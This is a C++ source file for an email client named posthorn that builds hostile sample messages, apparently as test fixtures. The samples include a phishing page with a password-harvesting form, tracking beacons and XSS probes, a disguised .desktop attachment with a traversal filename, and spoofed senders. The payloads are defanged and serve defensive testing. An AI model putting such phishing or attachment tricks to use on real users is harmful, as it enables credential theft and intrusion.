#include "mimewriter.h"
#include "people.h"
#include "samplesources.h"

namespace posthorn
{
namespace
{

constexpr qint64 hour = 3'600'000;

QByteArray rawHeader(const QByteArray &from, const QByteArray &subject, qint64 time, int number,
                     const char *to = "home@posthorn.example")
{
    return "Date: " + sampleDate(time, 0) + "\r\nFrom: " + from + "\r\nTo: " + to +
           "\r\nSubject: " + subject + "\r\nMessage-ID: <h" + QByteArray::number(number) +
           "@nowhere.example>\r\nMIME-Version: 1.0\r\n";
}

const char phishing[] =
    "<html><body onload=\"run()\"><p>Dear employee,</p><p>your mailbox is <b>99 % full</b>. Confirm your "
    "password within "
    "two hours:</p><p><a "
    "href=\"http://198.51.100.7/kestrel.example/login\">https://mail.kestrel.example/login</a></p>"
    "<form action=\"https://collect.nowhere.example/p\"><input name=password "
    "type=password><button>Confirm</button></form>"
    "<p>Your IT Team</p></body></html>";

const char tracking[] =
    "<html><head><meta http-equiv=refresh content='0;url=https://leak.nowhere.example/'><link rel=stylesheet "
    "href='https://leak.nowhere.example/s.css'><style>@import "
    "'https://leak.nowhere.example/i.css';</style></head><body>"
    "<script src='https://leak.nowhere.example/x.js'></script><script>document.title='read'</script>"
    "<div style='background:url(https://leak.nowhere.example/b.png);position:fixed;top:0;left:0'>You have "
    "won a prize.</div>"
    "<img src='https://leak.nowhere.example/open.gif?who=ada' width=1 height=1><img src=x onerror='alert(1)'>"
    "<iframe src='https://leak.nowhere.example/'></iframe><svg onload=alert(1)><image "
    "href='https://leak.nowhere.example/v'/></svg>"
    "<a href='javascript:alert(1)'>Claim it here</a> <a ping='https://leak.nowhere.example/p' "
    "href='https://prize.nowhere.example/'>or here</a><video "
    "poster='https://leak.nowhere.example/p.png'></video></body></html>";

const char desktopFile[] = "[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c 'echo this would "
                           "have run'\nIcon=application-pdf\n";

/// Multiparts in multiparts, and the last one never ends.
QByteArray nested(int depth)
{
    QByteArray bytes;
    for (int i = 0; i < depth; ++i)
        bytes += "Content-Type: multipart/mixed; boundary=\"n" + QByteArray::number(i) + "\"\r\n\r\n--n" +
                 QByteArray::number(i) + "\r\n";
    return bytes + "Content-Type: text/plain\r\n\r\nAt the bottom of " + QByteArray::number(depth) +
           " boxes lies this sentence.\r\n";
}

} // namespace

QList<SampleMessage> sampleHostile(qint64 nowMs)
{
    QList<SampleMessage> all;
    int number = 0;
    const auto add = [&](const char *owner, const char *folder, qint64 age, const QByteArray &from,
                         const QByteArray &subject, const QByteArray &rest) {
        SampleMessage made;
        made.owner = QString::fromLatin1(owner);
        made.folder = QString::fromLatin1(folder);
        made.receivedMs = nowMs - age;
        made.hostile = true;
        if (age > 24 * hour)
            made.flags |= MessageFlag::Seen;
        made.bytes =
            rawHeader(from, subject, made.receivedMs, ++number,
                      qstrcmp(owner, "home") == 0 ? "home@posthorn.example" : "work@posthorn.example") +
            rest;
        all += made;
    };
    const QByteArray plain = "Content-Type: text/plain; charset=utf-8\r\n\r\n";
    add("home", "Junk", 9 * hour, "=?utf-8?B?4oCuZWxwbWF4ZS5rbmFiQG9mbmk=?= <collector@nowhere.example>",
        "Your account will be closed",
        plain + "The name of this sender was written backwards to look like a bank.\r\n");
    add("work", "Inbox", 10 * hour, "Kestrel IT <support@kestreI.example>",
        "Your mailbox is almost full: act now",
        "Content-Type: text/html; charset=utf-8\r\n\r\n" + QByteArray(phishing) + "\r\n");
    add("home", "Junk", 26 * hour, "Prize Office <prize@nowhere.example>", "You have won (again)",
        "Content-Type: text/html; charset=utf-8\r\n\r\n" + QByteArray(tracking) + "\r\n");
    add("home", "Junk", 50 * hour, "Broken Mailer <broken@nowhere.example>", "Parts without an end",
        "Content-Type: multipart/mixed; boundary=\"never\"\r\n\r\n--never\r\nContent-Type: text/plain; "
        "charset=x-nonsense\r\n\r\n"
        "Caf\xE9 open\r\n--never\r\nContent-Type: image/png; name=\"half.png\"\r\nContent-Transfer-Encoding: "
        "base64\r\n\r\niVBORw0KGgoAAAAN\r\n");
    add("home", "Junk", 75 * hour, "Loud <loud@nowhere.example>", QByteArray("READ THIS ").repeated(1'000),
        plain + "The subject has ten thousand characters.\r\n");
    add("work", "Junk", 80 * hour, "\"priya.raman@kestrel.example\" <stranger@nowhere.example>",
        "Quick favour?",
        "From: priya.raman@kestrel.example\r\n" + plain +
            "Are you at your desk? I need gift cards. This message has two senders.\r\n");
    add("work", "Inbox", 30 * hour, "Accounts <accounts@invoices.example>", "Invoice 88213 is overdue",
        "Content-Type: multipart/mixed; boundary=\"inv\"\r\n\r\n--inv\r\n" + plain +
            "Please open the attached invoice at once.\r\n--inv\r\n"
            "Content-Type: application/pdf; name=\"invoice-88213.pdf                              "
            ".desktop\"\r\n"
            "Content-Disposition: attachment; filename*=utf-8''..%2F..%2Finvoice-88213.pdf.desktop\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" +
            QByteArray(desktopFile).toBase64() + "\r\n--inv--\r\n");
    add("home", "Junk", 100 * hour,
        "\"=?utf-8?Q?president=40office.example=00?=\" "
        "<=?utf-8?Q?president=40office.example=00?=@nowhere.example>",
        "From the highest place",
        plain + "The address of this sender hides behind a word that is not one.\r\n");
    add("home", "Junk", 130 * hour, "Boxes <boxes@nowhere.example>", "A box in a box in a box", nested(60));
    add("home", "Junk", 150 * hour, "Shaky <shaky@nowhere.example>",
        "=?utf-8?B?" +
            QString::fromUtf8("H\u0337\u0321\u0322\u031B\u0316\u0353e\u0334\u0328\u0332\u0301\u0306l\u0335"
                              "\u0327\u0324p\u0336\u032F\u0308\u0310")
                .toUtf8()
                .toBase64() +
            "?=",
        plain + "Letters with too many marks on them.\r\n");
    return all;
}

} // namespace posthorn
